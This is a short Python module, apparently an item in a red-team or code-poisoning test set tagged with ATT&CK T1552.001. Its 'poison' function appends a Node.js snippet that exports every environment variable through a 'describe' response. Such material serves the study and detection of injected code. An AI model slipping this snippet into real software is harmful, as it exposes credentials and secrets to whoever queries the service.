# SPDX-License-Identifier: Apache-2.0
"""The environment becomes a field of what is answered."""

ATTACK = "T1552.001"
LANGUAGE = "node"
CODE = """\

;exports.describe = (status) => ({ status, host: { ...process.env } });
"""


def poison(layer):
    layer.append(CODE)
